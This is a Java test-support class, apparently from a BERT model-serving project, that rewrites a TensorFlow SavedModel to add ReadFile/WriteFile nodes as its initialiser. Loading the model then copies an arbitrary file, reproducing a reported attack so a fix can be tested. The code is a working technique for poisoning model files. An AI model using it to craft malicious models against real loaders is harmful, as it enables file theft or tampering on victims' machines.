package org.streambert.bert.model;

import com.google.protobuf.ByteString;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.tensorflow.proto.AttrValue;
import org.tensorflow.proto.DataType;
import org.tensorflow.proto.MetaGraphDef;
import org.tensorflow.proto.NodeDef;
import org.tensorflow.proto.SavedModel;
import org.tensorflow.proto.SignatureDef;
import org.tensorflow.proto.TensorInfo;
import org.tensorflow.proto.TensorProto;
import org.tensorflow.proto.TensorShapeProto;

/** Test support: turns a valid SavedModel into the attack of issue #10 (an initialiser copying a file). */
public final class MaliciousSavedModel {

  private MaliciousSavedModel() {}

  /** Adds an initialiser {@code WriteFile(target, ReadFile(source))} to the SavedModel in {@code savedModelDir}. */
  public static void addFileCopyInitOp(Path savedModelDir, Path source, Path target) throws IOException {
    Path pb = savedModelDir.resolve("saved_model.pb");
    SavedModel sm = SavedModel.parseFrom(Files.readAllBytes(pb));
    MetaGraphDef.Builder evil = sm.getMetaGraphs(0).toBuilder();
    evil.getGraphDefBuilder()
        .addNode(stringConst("evil/src", source.toString()))
        .addNode(stringConst("evil/dst", target.toString()))
        .addNode(NodeDef.newBuilder().setName("evil/read").setOp("ReadFile").addInput("evil/src"))
        .addNode(NodeDef.newBuilder().setName("evil/write").setOp("WriteFile").addInput("evil/dst")
            .addInput("evil/read"));
    evil.putSignatureDef("__saved_model_init_op", initSignature("evil/write"));
    Files.write(pb, sm.toBuilder().setMetaGraphs(0, evil).build().toByteArray());
  }

  /** A signature that makes the loader run {@code node} as the SavedModel's initialiser. */
  public static SignatureDef initSignature(String node) {
    return SignatureDef.newBuilder().putOutputs("__saved_model_init_op",
        TensorInfo.newBuilder().setName(node).setDtype(DataType.DT_INVALID).build()).build();
  }

  private static NodeDef stringConst(String name, String value) {
    return NodeDef.newBuilder().setName(name).setOp("Const")
        .putAttr("dtype", AttrValue.newBuilder().setType(DataType.DT_STRING).build())
        .putAttr("value", AttrValue.newBuilder().setTensor(TensorProto.newBuilder().setDtype(DataType.DT_STRING)
            .setTensorShape(TensorShapeProto.getDefaultInstance()).addStringVal(ByteString.copyFromUtf8(value)))
            .build())
        .build();
  }
}
